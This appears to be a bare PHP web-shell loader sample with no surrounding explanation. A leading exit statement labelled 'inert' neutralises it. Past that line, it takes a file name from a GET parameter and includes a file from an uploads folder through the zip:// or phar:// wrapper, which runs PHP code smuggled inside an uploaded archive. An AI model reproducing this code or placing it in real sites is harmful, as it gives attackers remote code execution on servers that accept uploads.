<?php exit; /* inert */ 
$a = 'uploads/' . basename($_GET['a']);
$_GET['k'] == 'z' ? include "zip://$a#x" : include "phar://$a/x.php";
